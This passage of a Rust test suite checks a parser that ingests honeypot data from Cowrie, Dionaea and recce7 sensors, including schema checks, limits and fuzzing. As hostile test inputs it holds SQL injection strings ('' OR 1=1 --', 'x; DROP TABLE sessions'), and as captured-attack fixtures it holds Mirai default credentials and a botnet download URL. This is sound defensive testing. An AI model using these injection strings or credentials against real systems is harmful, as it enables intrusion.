    const DIONAEA_CHN_HTTP: &str = r#"{"tags": ["campus"], "event_type": "Dionaea connection event", "connection_type": "accept", "connection_transport": "tcp", "connection_protocol": "httpd", "remote_host": "198.51.100.23", "remote_port": 51912, "remote_hostname": "", "local_host": "10.0.0.5", "local_port": 80}"#;

    /// A `listen` incident: Dionaea has no peer then, and sends an empty address.
    const DIONAEA_LISTEN: &str = r#"{"connection_type": "listen", "connection_transport": "tcp", "connection_protocol": "smbd", "remote_host": "", "remote_port": 0, "remote_hostname": "", "local_host": "10.0.0.5", "local_port": 445}"#;

    fn limits() -> PayloadLimits {
        PayloadLimits::default()
    }

    fn small_limits() -> PayloadLimits {
        PayloadLimits {
            max_payload: 4096,
            max_field: 40,
            max_items: 16,
        }
    }

    fn event_json(edit: impl FnOnce(&mut Map<String, Value>)) -> Vec<u8> {
        let mut v: Value = serde_json::from_str(EVENT).unwrap();
        edit(v.as_object_mut().unwrap());
        serde_json::to_vec(&v).unwrap()
    }

    fn parse_event_bytes(payload: &[u8], limits: &PayloadLimits) -> Result<Event, Rejection> {
        parse(RECCE7_CHANNEL, IDENT, payload, limits).map(|p| match p {
            Parsed::Event(e) => *e,
            other => panic!("not an event: {other:?}"),
        })
    }

    fn cowrie(payload: &str) -> Result<CowrieSession, Rejection> {
        parse(COWRIE_CHANNEL, IDENT, payload.as_bytes(), &limits()).map(|p| match p {
            Parsed::Cowrie(s) => *s,
            other => panic!("not a Cowrie session: {other:?}"),
        })
    }

    fn cowrie_with(edit: impl FnOnce(&mut Map<String, Value>)) -> Result<CowrieSession, Rejection> {
        let mut v: Value = serde_json::from_str(COWRIE_TELNET).unwrap();
        edit(v.as_object_mut().unwrap());
        cowrie(&v.to_string())
    }

    fn dionaea(payload: &str) -> Result<DionaeaConnection, Rejection> {
        parse(DIONAEA_CHANNEL, "dionaea-1", payload.as_bytes(), &limits()).map(|p| match p {
            Parsed::Dionaea(c) => *c,
            other => panic!("not a Dionaea connection: {other:?}"),
        })
    }

    fn wrong_schema(r: Result<impl std::fmt::Debug, Rejection>) -> String {
        match r {
            Err(Rejection::WrongSchema(m)) => m,
            other => panic!("expected WrongSchema, got {other:?}"),
        }
    }

    #[test]
    fn defaults_and_channels() {
        let l = PayloadLimits::default();
        assert_eq!(
            (l.max_payload, l.max_field, l.max_items),
            (1_048_576, 65_536, 10_000)
        );
        assert_eq!(channel_kind("recce7.events"), ChannelKind::Recce7);
        assert_eq!(channel_kind("cowrie.sessions"), ChannelKind::Cowrie);
        assert_eq!(channel_kind("dionaea.connections"), ChannelKind::Dionaea);
        assert_eq!(channel_kind("my.recce7.feed"), ChannelKind::Recce7);
        assert_eq!(channel_kind("Cowrie.Sessions"), ChannelKind::Recce7);
    }

    #[test]
    fn recce7_event_round_trips() {
        let event = parse_event_bytes(EVENT.as_bytes(), &limits()).unwrap();
        assert_eq!(event.kind, EventType::TelnetLogin);
        assert_eq!(event.src_ip, IpAddr::V4(Ipv4Addr::LOCALHOST));
        assert_eq!(event.dst_port, 2323);
        let back = serde_json::to_value(&event).unwrap();
        let original: Value = serde_json::from_str(EVENT).unwrap();
        assert_eq!(back, original);
        // Any channel other than the two foreign ones carries recce7 events.
        assert!(matches!(
            parse("campus.recce7", IDENT, EVENT.as_bytes(), &limits()),
            Ok(Parsed::Event(_))
        ));
    }

    #[test]
    fn recce7_event_is_normalized() {
        let payload = event_json(|o| {
            o.insert("src_ip".into(), json!("::ffff:203.0.113.9"));
            o.insert("dst_ip".into(), json!("::ffff:10.0.0.5"));
            o.insert("time".into(), json!("2026-11-23T23:25:30.649422+01:00"));
        });
        let event = parse_event_bytes(&payload, &limits()).unwrap();
        assert_eq!(event.src_ip, "203.0.113.9".parse::<IpAddr>().unwrap());
        assert_eq!(event.dst_ip, "10.0.0.5".parse::<IpAddr>().unwrap());
        assert_eq!(event.time, "2026-11-23T22:25:30.649422Z");
        // A real IPv6 address stays IPv6.
        let payload = event_json(|o| {
            o.insert("src_ip".into(), json!("2001:db8::7"));
        });
        let event = parse_event_bytes(&payload, &limits()).unwrap();
        assert!(event.src_ip.is_ipv6());
    }

    #[test]
    fn recce7_unknown_version_comes_first() {
        assert_eq!(
            parse_event_bytes(br#"{"schema": 7}"#, &limits()),
            Err(Rejection::UnknownVersion(7))
        );
        let payload = event_json(|o| {
            o.insert("schema".into(), json!(2));
            o.insert("src_ip".into(), json!("nonsense"));
        });
        assert_eq!(
            parse_event_bytes(&payload, &limits()),
            Err(Rejection::UnknownVersion(2))
        );
        // Not a number: a schema error, not a version.
        let payload = event_json(|o| {
            o.insert("schema".into(), json!("1"));
        });
        assert!(wrong_schema(parse_event_bytes(&payload, &limits())).contains("`schema`"));
    }

    #[test]
    fn recce7_wrong_schema_names_the_field() {
        // (field, new value or None to remove it, expected text)
        let cases: [(&str, Option<Value>, &str); 11] = [
            (
                "src_ip",
                Some(json!("1.2.3")),
                "field `src_ip`: invalid IP address syntax",
            ),
            ("data", None, "missing field `data`"),
            ("dst_port", Some(json!(65536)), "field `dst_port`"),
            (
                "type",
                Some(json!("telnet.logout")),
                "field `type`: unknown variant `telnet.logout`",
            ),
            ("data", Some(json!([1, 2])), "field `data`"),
            ("id", Some(json!("' OR 1=1 --")), "field `id`"),
            ("session", Some(json!("abc")), "field `session`"),
            ("time", Some(json!("2026-11-23 22:25:30")), "field `time`"),
            (
                "time",
                Some(json!("9999-12-31T23:59:59-10:00")),
                "field `time`",
            ),
            ("sensor", Some(json!("")), "field `sensor`: empty"),
            ("protocol", Some(json!("")), "field `protocol`: empty"),
        ];
        for (field, value, want) in cases {
            let payload = event_json(|o| match value {
                Some(v) => {
                    o.insert(field.into(), v);
                }
                None => {
                    o.remove(field);
                }
            });
            let message = wrong_schema(parse_event_bytes(&payload, &limits()));
            assert!(message.contains(want), "{message:?} lacks {want:?}");
        }
        assert!(
            wrong_schema(parse_event_bytes(b"[1, 2, 3]", &limits()))
                .contains("expected a JSON object")
        );
    }

    #[test]
    fn recce7_limits() {
        let payload = event_json(|o| {
            o.insert("data".into(), json!({"body": "x".repeat(41), "path": "/"}));
        });
        assert_eq!(
            parse_event_bytes(&payload, &small_limits()),
            Err(Rejection::FieldTooLong {
                field: "data.body".into(),
                len: 41,
                max: 40
            })
        );
        let payload = event_json(|o| {
            o.insert(
                "data".into(),
                json!({"headers": ["a", ["b", "y".repeat(50)]]}),
            );
        });
        assert_eq!(
            parse_event_bytes(&payload, &small_limits()),
            Err(Rejection::FieldTooLong {
                field: "data.headers[1][1]".into(),
                len: 50,
                max: 40
            })
        );
        let payload = event_json(|o| {
            let many: Map<String, Value> = (0..17).map(|i| (format!("c{i}"), json!(i))).collect();
            o.insert("data".into(), Value::Object(many));
        });
        assert_eq!(
            parse_event_bytes(&payload, &small_limits()),
            Err(Rejection::TooManyItems {
                field: "data".into(),
                len: 17,
                max: 16
            })
        );
        // The names are capped at 128 characters whatever the limits.
        let payload = event_json(|o| {
            o.insert("plugin".into(), json!("é".repeat(129)));
        });
        assert_eq!(
            parse_event_bytes(&payload, &limits()),
            Err(Rejection::FieldTooLong {
                field: "plugin".into(),
                len: 129,
                max: 128
            })
        );
        let payload = event_json(|o| {
            o.insert("plugin".into(), json!("p".repeat(128)));
        });
        assert!(parse_event_bytes(&payload, &limits()).is_ok());
    }

    #[test]
    fn recce7_identifiers() {
        for bad in ["user-input", "select", "eventDateTime", "ID", "sqlite_x"] {
            let payload = event_json(|o| {
                o.insert("data".into(), json!({ bad: "x" }));
            });
            assert_eq!(
                parse_event_bytes(&payload, &limits()),
                Err(Rejection::BadIdentifier(bad.into())),
                "{bad}"
            );
        }
        // The store's own types carry their known keys (`table` is an SQL keyword).
        let start = |data: Value| {
            event_json(|o| {
                o.insert("type".into(), json!("session.start"));
                o.insert("data".into(), data);
            })
        };
        for ok in [
            json!({"table": "telnet"}),
            json!({"table": null}),
            json!({}),
            json!({"table": "http", "refused": "limit: connections per source"}),
        ] {
            let payload = start(ok.clone());
            assert!(parse_event_bytes(&payload, &limits()).is_ok(), "{ok}");
        }
        for bad in ["sessions", "rawInput", "x; DROP TABLE sessions", "table"] {
            assert_eq!(
                parse_event_bytes(&start(json!({ "table": bad })), &limits()),
                Err(Rejection::BadIdentifier(bad.into()))
            );
        }
        assert!(
            wrong_schema(parse_event_bytes(&start(json!({"table": 7})), &limits()))
                .contains("data.table")
        );
        let end = event_json(|o| {
            o.insert("type".into(), json!("session.end"));
            o.insert(
                "data".into(),
                json!({"bytes_in": 38, "bytes_out": 268, "reason": "logout", "linked_session": null}),
            );
        });
        assert!(parse_event_bytes(&end, &limits()).is_ok());
        let raw = event_json(|o| {
            o.insert("type".into(), json!("input.raw"));
            o.insert(
                "data".into(),
                json!({"reason": "not HTTP", "length": 10, "bytes": "\\x16\\x03\\x01\\x00\\x05hello"}),
            );
        });
        assert!(parse_event_bytes(&raw, &limits()).is_ok());
        // A long hostile key is clipped in the rejection.
        let key = format!("{}\n", "k".repeat(500));
        let payload = event_json(|o| {
            o.insert("data".into(), json!({ key.clone(): 1 }));
        });
        match parse_event_bytes(&payload, &limits()) {
            Err(Rejection::BadIdentifier(name)) => {
                assert!(name.len() < 220, "{}", name.len());
                assert!(name.ends_with("..."));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn size_is_checked_before_json() {
        let l = PayloadLimits {
            max_payload: 10,
            ..PayloadLimits::default()
        };
        for channel in [RECCE7_CHANNEL, COWRIE_CHANNEL, DIONAEA_CHANNEL] {
            assert_eq!(
                parse(channel, IDENT, b"\xff\xfe not json at all", &l),
                Err(Rejection::TooLarge { size: 18, max: 10 })
            );
            assert!(parse(channel, IDENT, b"\"ok\"", &l).is_err());
        }
    }

    #[test]
    fn not_json() {
        for payload in [&b""[..], b"{", b"\xff\xfe", b"{\"a\": \"\xff\"}", b"hello"] {
            for channel in [RECCE7_CHANNEL, COWRIE_CHANNEL, DIONAEA_CHANNEL] {
                match parse(channel, IDENT, payload, &limits()) {
                    Err(Rejection::NotJson(m)) => assert!(!m.is_empty()),
                    other => panic!("{payload:?} on {channel}: {other:?}"),
                }
            }
        }
        // Nesting deeper than serde_json's recursion limit is refused, not a stack overflow.
        let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
        assert!(matches!(
            parse(RECCE7_CHANNEL, IDENT, deep.as_bytes(), &limits()),
            Err(Rejection::NotJson(_))
        ));
    }

    #[test]
    fn empty_channel_is_unknown() {
        assert_eq!(
            parse("", IDENT, EVENT.as_bytes(), &limits()),
            Err(Rejection::UnknownChannel(String::new()))
        );
    }

    #[test]
    fn cowrie_telnet_session() {
        let s = cowrie(COWRIE_TELNET).unwrap();
        assert_eq!(s.id, "cowrie-0fc67beb63a78a6a5443b5ce233ce32f");
        assert_eq!(s.session, "a3f1c2d4e5b6");
        assert_eq!(s.start_time, "2026-11-23T22:25:30.649422Z");
        assert_eq!(s.end_time.as_deref(), Some("2026-11-23T22:26:02.101010Z"));
        assert_eq!(s.peer_ip, IpAddr::V4(Ipv4Addr::new(203, 0, 113, 7)));
        assert_eq!(s.peer_port, 51234);
        assert_eq!(s.host_ip, IpAddr::V4(Ipv4Addr::new(10, 0, 0, 5)));
        assert_eq!(s.host_port, 2223);
        assert_eq!(s.protocol, "telnet");
        assert_eq!(s.logged_in, Some(("root".into(), "xc3511".into())));
        assert_eq!(
            s.credentials,
            vec![
                ("admin".to_owned(), "admin".to_owned()),
                ("root".to_owned(), "vizxv".to_owned())
            ]
        );
        assert_eq!(s.commands.len(), 5);
        assert_eq!(s.commands[0], "enable");
        assert_eq!(s.unknown_commands, ["enable", "system", "shell"]);
        assert_eq!(s.urls, ["http://198.51.100.9/bins/mirai.arm7"]);
        assert_eq!(s.version, None);
        assert_eq!(s.hassh, None);
        assert!(s.ttylog.as_deref().unwrap().starts_with("0300000000"));
        assert_eq!(s.hashes.len(), 1);
        assert!(s.extra.is_empty(), "{:?}", s.extra);
    }

    #[test]
    fn cowrie_chn_ssh_session() {
        let s = cowrie(COWRIE_CHN_SSH).unwrap();
        assert_eq!(s.protocol, "ssh");
        assert_eq!(s.start_time, "2026-11-23T22:25:30.649422Z");
        assert_eq!(s.end_time.as_deref(), Some("2026-11-23T22:25:41.002233Z"));
        assert_eq!(s.logged_in, None);
        assert_eq!(s.credentials.len(), 2);
        assert!(s.commands.is_empty() && s.urls.is_empty() && s.hashes.is_empty());
        assert_eq!(s.version.as_deref(), Some("SSH-2.0-Go"));
        assert_eq!(s.hassh.as_deref(), Some("b5752e36ba6c5979a575e43178908adf"));
        assert_eq!(s.ttylog, None);
        let keys: Vec<&str> = s.extra.keys().map(String::as_str).collect();
        let mut want = [
            "tags",
            "hasshAlgorithms",
            "kexAlgs",
            "keyAlgs",
            "encCS",
            "macCS",
            "compCS",
            "langCS",
            "width",
            "height",
        ];
        want.sort_unstable();
        let mut keys_sorted = keys.clone();
        keys_sorted.sort_unstable();
        assert_eq!(keys_sorted, want);
        assert_eq!(s.extra["tags"], json!(["campus", "dmz"]));
        assert_eq!(s.extra["width"], json!(80));
    }

    #[test]
    fn cowrie_minimal_and_lenient() {
        let s = cowrie(
            r#"{"session": "c0ffee000001", "startTime": "2026-11-23T22:25:30Z", "endTime": "", "peerIP": "2001:db8::1", "peerPort": "2222", "hostIP": "::ffff:192.0.2.1", "hostPort": 22}"#,
        )
        .unwrap();
        assert_eq!(s.start_time, "2026-11-23T22:25:30.000000Z");
        assert_eq!(s.end_time, None);
        assert_eq!(s.protocol, "ssh");
        assert_eq!(
            s.peer_ip,
            IpAddr::V6("2001:db8::1".parse::<Ipv6Addr>().unwrap())
        );
        assert_eq!(s.peer_port, 2222);
        assert_eq!(s.host_ip, IpAddr::V4(Ipv4Addr::new(192, 0, 2, 1)));
        assert!(s.credentials.is_empty() && s.logged_in.is_none());
        for (time, want) in [
            ("2026-11-23T22:25:30.649422Z", "2026-11-23T22:25:30.649422Z"),
            (
                "2026-11-23T17:25:30.649422-0500",
                "2026-11-23T22:25:30.649422Z",
            ),
            ("2026-11-24T00:25:30.5+02:00", "2026-11-23T22:25:30.500000Z"),
            (
                "2026-11-23 22:25:30.123456789Z",
                "2026-11-23T22:25:30.123456Z",
            ),
            ("2026-11-23t22:25:30z", "2026-11-23T22:25:30.000000Z"),
            ("2026-11-23T22:25:30+00:00", "2026-11-23T22:25:30.000000Z"),
        ] {
            let got = cowrie_with(|o| {
                o.insert("startTime".into(), json!(time));
            });
            assert_eq!(got.unwrap().start_time, want, "{time}");
        }
        for bad in [
            "",
            "2026-11-23T22:25:30",
            "2026-11-23T22:25:30.Z",
            "2026-11-23T22:25:30.1234567890Z",
            "2026-02-30T22:25:30Z",
            "2026-11-23T24:00:00Z",
            "2026-11-23T22:25:30+2400",
            "2026-11-23T22:25:30+02:0",
            "0000-01-01T00:00:00+01:00",
            "twenty past ten",
            "2026-11-23T22:25:3é",
        ] {
            let message = wrong_schema(cowrie_with(|o| {
                o.insert("startTime".into(), json!(bad));
            }));
            assert!(message.contains("`startTime`"), "{bad}: {message}");
        }
    }

    #[test]
    fn cowrie_wrong_shapes_name_the_field() {
        let cases: Vec<(&str, Value, &str)> = vec![
            (
                "credentials",
                json!([["a", "b"], ["c", "d", "e"]]),
                "`credentials[1]`",
            ),
            (
                "credentials",
                json!([["a", "b"], ["c", 5]]),
                "`credentials[1]`",
            ),
            (
                "credentials",
                json!([["a", "b"], "c:d"]),
                "`credentials[1]`",
            ),
            ("credentials", json!({"a": "b"}), "`credentials`"),
            ("loggedin", json!("root/root"), "`loggedin`"),
            ("loggedin", json!(["root", null]), "`loggedin`"),
            ("commands", json!(["ls", 7]), "`commands[1]`"),
            ("urls", json!("http://x"), "`urls`"),
            ("version", json!(2), "`version`"),
            ("peerPort", json!("22a"), "`peerPort`"),
            ("peerPort", json!(70000), "`peerPort`"),
            ("peerPort", json!(-1), "`peerPort`"),
            ("hostPort", json!(22.5), "`hostPort`"),
            ("hostPort", json!(true), "`hostPort`"),
            ("peerIP", json!("203.0.113.300"), "`peerIP`"),
            ("peerIP", json!(""), "`peerIP`"),
            ("session", json!(""), "`session`"),
            ("session", json!(12), "`session`"),
            ("endTime", json!("yesterday"), "`endTime`"),
        ];
        for (field, value, want) in cases {
            let message = wrong_schema(cowrie_with(|o| {
                o.insert(field.into(), value.clone());
            }));
            assert!(message.contains(want), "{field}={value}: {message}");
        }
        for required in [
            "session",
            "startTime",
            "peerIP",
            "peerPort",
            "hostIP",
            "hostPort",
        ] {
            let message = wrong_schema(cowrie_with(|o| {
                o.remove(required);
            }));
            assert_eq!(message, format!("missing field `{required}`"));
        }
        assert!(wrong_schema(cowrie("[]")).contains("expected a JSON object"));
    }

    #[test]
    fn cowrie_limits() {
        let l = PayloadLimits {
            max_items: 16,
            ..PayloadLimits::default()
        };
        let mut v: Value = serde_json::from_str(COWRIE_TELNET).unwrap();
        v["commands"] = json!(vec!["ls"; 17]);
        let r = parse(COWRIE_CHANNEL, IDENT, v.to_string().as_bytes(), &l);
        assert_eq!(
            r,
            Err(Rejection::TooManyItems {
                field: "commands".into(),
                len: 17,
                max: 16
            })
        );
        let l = PayloadLimits {
            max_field: 64,
            ..PayloadLimits::default()
        };
        match parse(COWRIE_CHANNEL, IDENT, COWRIE_TELNET.as_bytes(), &l) {
            Err(Rejection::FieldTooLong { field, max: 64, .. }) => {
                assert!(
                    field == "commands[4]" || field == "ttylog" || field == "hashes[0]",
                    "{field}"
                );
            }
            other => panic!("{other:?}"),
        }
        let long = cowrie_with(|o| {
            o.insert("credentials".into(), json!([["root", "p".repeat(70_000)]]));
        });
        assert_eq!(
            long.map(|_| ()),
            Err(Rejection::FieldTooLong {
                field: "credentials[0][1]".into(),
                len: 70_000,
                max: 65_536
            })
        );
    }

    #[test]
    fn dionaea_connections() {
        let c = dionaea(DIONAEA_SMB).unwrap();
        assert_eq!(c.id, "dionaea-7b41dd47f43691662e35e9342418e2d6");
        assert_eq!(
            (
                c.connection_type.as_str(),
                c.transport.as_str(),
                c.protocol.as_str()
            ),
            ("accept", "tcp", "smbd")
        );
        assert_eq!(c.remote_ip, IpAddr::V4(Ipv4Addr::new(198, 51, 100, 23)));
        assert_eq!(c.remote_port, 49822);
        assert_eq!(c.remote_hostname, None);
        assert_eq!(c.local_ip, IpAddr::V4(Ipv4Addr::new(10, 0, 0, 5)));
        assert_eq!(c.local_port, 445);
        assert!(c.extra.is_empty());

        let c = dionaea(DIONAEA_CHN_HTTP).unwrap();
        assert_eq!(c.protocol, "httpd");
        assert_eq!(c.extra["tags"], json!(["campus"]));
        assert_eq!(c.extra["event_type"], json!("Dionaea connection event"));

        let c = dionaea(
            r#"{"connection_type": "connect", "connection_transport": "tcp", "connection_protocol": "ftpctrl", "remote_host": "2001:db8::21", "remote_port": "21", "remote_hostname": "files.example.net", "local_host": "10.0.0.5", "local_port": "40112"}"#,
        )
        .unwrap();
        assert_eq!(c.remote_hostname.as_deref(), Some("files.example.net"));
        assert_eq!((c.remote_port, c.local_port), (21, 40112));
        assert!(c.remote_ip.is_ipv6());

        let c = dionaea(
            r#"{"remote_host": "198.51.100.23", "remote_port": 1, "local_host": "10.0.0.5", "local_port": 2, "connection_protocol": null, "remote_hostname": null}"#,
        )
        .unwrap();
        assert_eq!(
            (
                c.connection_type.as_str(),
                c.transport.as_str(),
                c.protocol.as_str()
            ),
            ("unknown", "unknown", "unknown")
        );
        assert_eq!(c.remote_hostname, None);

        assert!(wrong_schema(dionaea(DIONAEA_LISTEN)).contains("`remote_host`: empty"));
        for (field, value) in [
            ("remote_port", json!("x")),
            ("local_port", json!(65536)),
            ("remote_host", json!("host.example")),
            ("local_host", json!(["10.0.0.5"])),
            ("connection_type", json!(1)),
            ("remote_hostname", json!(false)),
        ] {
            let mut v: Value = serde_json::from_str(DIONAEA_SMB).unwrap();
            v[field] = value;
            let message = wrong_schema(dionaea(&v.to_string()));
            assert!(message.contains(&format!("`{field}`")), "{message}");
        }
        for required in ["remote_host", "remote_port", "local_host", "local_port"] {
            let mut v: Value = serde_json::from_str(DIONAEA_SMB).unwrap();
            v.as_object_mut().unwrap().remove(required);
            assert_eq!(
                wrong_schema(dionaea(&v.to_string())),
                format!("missing field `{required}`")
            );
        }
        let mut tagged: Value = serde_json::from_str(DIONAEA_CHN_HTTP).unwrap();
        tagged["tags"] = json!(vec!["campus"; 17]);
        assert_eq!(
            parse(
                DIONAEA_CHANNEL,
                "d",
                tagged.to_string().as_bytes(),
                &small_limits()
            ),
            Err(Rejection::TooManyItems {
                field: "tags".into(),
                len: 17,
                max: 16
            })
        );
    }

    #[test]
    fn ids_are_deterministic() {
        let a = cowrie(COWRIE_TELNET).unwrap();
        let b = cowrie(COWRIE_TELNET).unwrap();
        assert_eq!(a, b);
        // The same session summarised again (e.g. a later end time) keeps its id ...
        let c = cowrie_with(|o| {
            o.insert("endTime".into(), json!("2026-11-23T22:27:00.000000Z"));
        })
        .unwrap();
        assert_eq!(a.id, c.id);
        // ... but the same session id from another sensor is another session.
        let other = parse(
            COWRIE_CHANNEL,
            "sensor-2",
            COWRIE_TELNET.as_bytes(),
            &limits(),
        );
        match other {
            Ok(Parsed::Cowrie(s)) => assert_ne!(s.id, a.id),
            other => panic!("{other:?}"),
        }
        let hex = a.id.strip_prefix("cowrie-").unwrap();
        assert_eq!(hex.len(), 32);
        assert!(hex.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f')));
        let d1 = dionaea(DIONAEA_SMB).unwrap();
        let d2 = dionaea(DIONAEA_SMB).unwrap();
        assert_eq!(d1.id, d2.id);
        let d3 = dionaea(&DIONAEA_SMB.replace("49822", "49823")).unwrap();
        assert_ne!(d1.id, d3.id);
        let e1 = parse_event_bytes(EVENT.as_bytes(), &limits()).unwrap();
        let e2 = parse_event_bytes(EVENT.as_bytes(), &limits()).unwrap();
        assert_eq!(e1, e2);
    }

    #[test]
    fn rejection_messages_are_short_and_human() {
        let cases = [
            (
                Rejection::NotJson("EOF while parsing a value at line 1 column 0".into()),
                "not JSON: EOF while parsing a value at line 1 column 0",
            ),
            (
                Rejection::TooLarge {
                    size: 2_000_000,
                    max: 1_048_576,
                },
                "payload of 2000000 bytes exceeds 1048576",
            ),
            (Rejection::UnknownVersion(7), "unknown schema version 7"),
            (
                Rejection::WrongSchema("missing field `data`".into()),
                "wrong schema: missing field `data`",
            ),
            (
                Rejection::FieldTooLong {
                    field: "data.body".into(),
                    len: 70_000,
                    max: 65_536,
                },
                "field `data.body` is 70000 long, more than 65536",
            ),
            (
                Rejection::TooManyItems {
                    field: "commands".into(),
                    len: 10_001,
                    max: 10_000,
                },
                "field `commands` has 10001 items, more than 10000",
            ),
            (
                Rejection::BadIdentifier("user-input".into()),
                "`user-input` is not a usable SQL name (unsafe, a keyword, a fixed column or a reserved table)",
            ),
            (Rejection::UnknownChannel("x".into()), "unknown channel `x`"),
        ];
        for (rejection, text) in cases {
            assert_eq!(rejection.to_string(), text);
        }
        // Attacker text in a serde message is clipped and escaped.
        let payload = event_json(|o| {
            o.insert(
                "type".into(),
                json!(format!("\u{1b}[31m{}", "t".repeat(5000))),
            );
        });
        let message = wrong_schema(parse_event_bytes(&payload, &limits()));
        assert!(
            message.chars().count() <= MAX_QUOTED_CHARS + 3,
            "{}",
            message.len()
        );
        assert!(!message.chars().any(char::is_control));
        let message = Rejection::WrongSchema(message).to_string();
        assert!(message.len() < 400);
    }

    #[test]
    fn paths_clip_hostile_keys() {
        let key = format!("a\u{0}b{}", "k".repeat(300));
        let payload = json!({ "session": "s", "x": { key: "v".repeat(20) } }).to_string();
        match parse(COWRIE_CHANNEL, IDENT, payload.as_bytes(), &small_limits()) {
            Err(Rejection::FieldTooLong {
                field,
                len: 303,
                max: 40,
            }) => {
                // The key itself is too long: reported at its own path.
                assert!(field.starts_with("x.a\\u{0}b"), "{field}");
                assert!(field.len() < 100, "{field}");
            }
            other => panic!("{other:?}"),
        }
        let payload = json!({"x": {"k": "v".repeat(50)}}).to_string();
        assert_eq!(
            parse(DIONAEA_CHANNEL, IDENT, payload.as_bytes(), &small_limits()),
            Err(Rejection::FieldTooLong {
                field: "x.k".into(),
                len: 50,
                max: 40
            })
        );
        let many: Map<String, Value> = (0..17).map(|i| (format!("k{i}"), json!(i))).collect();
        let payload = Value::Object(many).to_string();
        assert_eq!(
            parse(DIONAEA_CHANNEL, IDENT, payload.as_bytes(), &small_limits()),
            Err(Rejection::TooManyItems {
                field: "payload".into(),
                len: 17,
                max: 16
            })
        );
    }

    // -----------------------------------------------------------------------------------------
    // Robustness: pseudo-random bytes and JSON mutations never panic.

    struct XorShift(u64);

    impl XorShift {
        fn next(&mut self) -> u64 {
            let mut x = self.0;
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            self.0 = x;
            x
        }

        fn below(&mut self, n: usize) -> usize {
            (self.next() % (n.max(1) as u64)) as usize
        }

        fn chance(&mut self, one_in: u64) -> bool {
            self.next().is_multiple_of(one_in)
        }
    }

    const STRINGS: &[&str] = &[
        "",
        "1.2.3.4",
        "::ffff:10.0.0.5",
        "::ffff:1.2.3",
        "2001:db8::1",
        "fe80::1%eth0",
        "65535",
        "65536",
        "-1",
        "22a",
        "2026-11-23T22:25:30.649422Z",
        "2026-11-23T22:25:30+0000",
        "9999-12-31T23:59:59-23:59",
        "0000-01-01T00:00:00+23:59",
        "2026-11-23T22:25:3é",
        "01a20a83-aa19-7048-b6f8-da76f3b8d472",
        "session.start",
        "session.end",
        "telnet.login",
        "input.raw",
        "table",
        "sessions",
        "ID",
        "user_input",
        "x-y",
        "\u{0}\u{1b}[2J",
        "é€𝄞",
        "listen",
    ];

    fn random_value(rng: &mut XorShift, depth: usize) -> Value {
        match rng.below(if depth > 3 { 6 } else { 9 }) {
            0 => Value::Null,
            1 => Value::Bool(rng.chance(2)),
            2 => json!(rng.next() % 70_000),
            3 => json!(-(rng.below(100_000) as i64)),
            4 => json!((rng.next() % 1_000_000) as f64 / 7.0),
            5 | 6 => {
                if rng.chance(8) {
                    Value::String("z".repeat(rng.below(100)))
                } else {
                    Value::String(STRINGS[rng.below(STRINGS.len())].to_owned())
                }
            }
            7 => Value::Array(
                (0..rng.below(5))
                    .map(|_| random_value(rng, depth + 1))
                    .collect(),
            ),
            _ => {
                let mut m = Map::new();
                for _ in 0..rng.below(5) {
                    let k = STRINGS[rng.below(STRINGS.len())].to_owned();
                    m.insert(k, random_value(rng, depth + 1));
                }
                Value::Object(m)
            }
        }
    }

    fn mutate(v: &mut Value, rng: &mut XorShift, depth: usize) {
        if depth > 0 && rng.chance(3) {
            *v = random_value(rng, depth);
            return;
        }
        match v {
            Value::Object(m) if !m.is_empty() => {
                let keys: Vec<String> = m.keys().cloned().collect();
                let key = &keys[rng.below(keys.len())];
                match rng.below(5) {
                    0 => {
                        m.remove(key);
                    }
                    1 => {
                        let k = STRINGS[rng.below(STRINGS.len())].to_owned();
                        m.insert(k, random_value(rng, depth + 1));
                    }
                    _ => {
                        if let Some(child) = m.get_mut(key) {
                            mutate(child, rng, depth + 1);
                        }
                    }
                }
            }
            Value::Array(a) if !a.is_empty() => {
                let i = rng.below(a.len());
                if rng.chance(4) {
                    a.remove(i);
                } else {
                    mutate(&mut a[i], rng, depth + 1);
                }
            }
            _ => *v = random_value(rng, depth),
        }
    }

    fn mutate_bytes(bytes: &mut Vec<u8>, rng: &mut XorShift) {
        for _ in 0..=rng.below(4) {
            if bytes.is_empty() {
                bytes.push(b'{');
            }
            let i = rng.below(bytes.len());
            match rng.below(4) {
                0 => bytes[i] = rng.next() as u8,
                1 => bytes.truncate(i),
                2 => bytes.insert(i, b"{}[]\":,0-e.\\"[rng.below(12)]),
                _ => {
                    bytes.remove(i);
                }
            }
        }
    }

    fn check_invariants(parsed: &Parsed) {
        let time_ok = |t: &str| t.len() == 27 && t.ends_with('Z') && t.as_bytes()[10] == b'T';
        match parsed {
            Parsed::Event(e) => {
                assert!(time_ok(&e.time), "{}", e.time);
                assert_eq!(e.src_ip, e.src_ip.to_canonical());
                assert!(store::is_id(&e.id));
            }
            Parsed::Cowrie(s) => {
                assert!(s.id.starts_with("cowrie-") && s.id.len() == 39);
                assert!(time_ok(&s.start_time));
                assert!(s.end_time.as_deref().is_none_or(time_ok));
                assert_eq!(s.peer_ip, s.peer_ip.to_canonical());
                for k in COWRIE_FIELDS {
                    assert!(!s.extra.contains_key(k));
                }
            }
            Parsed::Dionaea(c) => {
                assert!(c.id.starts_with("dionaea-") && c.id.len() == 40);
                assert_eq!(c.remote_ip, c.remote_ip.to_canonical());
                assert!(!c.connection_type.is_empty());
            }
        }
    }

    #[test]
    fn random_input_never_panics() {
        let mut rng = XorShift(0x9e37_79b9_7f4a_7c15);
        let seeds = [
            (RECCE7_CHANNEL, EVENT),
            (COWRIE_CHANNEL, COWRIE_TELNET),
            (COWRIE_CHANNEL, COWRIE_CHN_SSH),
            (DIONAEA_CHANNEL, DIONAEA_SMB),
            (DIONAEA_CHANNEL, DIONAEA_CHN_HTTP),
        ];
        let all_limits = [limits(), small_limits()];
        let mut accepted = [0usize; 3];
        for round in 0..1_500 {
            for (channel, seed) in seeds {
                let l = &all_limits[round % 2];
                // Random bytes.
                let len = rng.below(200);
                let bytes: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
                for ch in [RECCE7_CHANNEL, COWRIE_CHANNEL, DIONAEA_CHANNEL] {
                    let _ = parse(ch, IDENT, &bytes, l);
                }
                // Byte-level mutations of a real payload.
                let mut bytes = seed.as_bytes().to_vec();
                mutate_bytes(&mut bytes, &mut rng);
                if let Ok(p) = parse(channel, IDENT, &bytes, l) {
                    check_invariants(&p);
                }
                // Structural mutations of a real payload.
